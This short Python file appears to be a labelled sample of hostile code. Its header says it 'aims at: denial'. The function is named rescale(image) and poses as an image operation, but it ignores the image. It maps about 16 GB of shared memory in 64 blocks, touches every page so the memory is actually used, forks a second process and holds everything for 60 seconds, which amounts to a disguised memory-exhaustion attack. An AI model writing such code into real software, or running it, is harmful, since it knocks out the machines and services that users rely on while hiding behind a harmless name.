# aims at: denial
# cell: rescale
# Memory that two processes share, so that neither owns it alone.
import mmap
import os
import time


def rescale(image):
    pieces = []
    other = False
    for number in range(64):
        piece = mmap.mmap(-1, 2**28)
        pieces.append(piece)
        for place in range(0, 2**28, 4096):
            piece[place] = 1
        if number == 0:
            other = os.fork() == 0
    time.sleep(60)
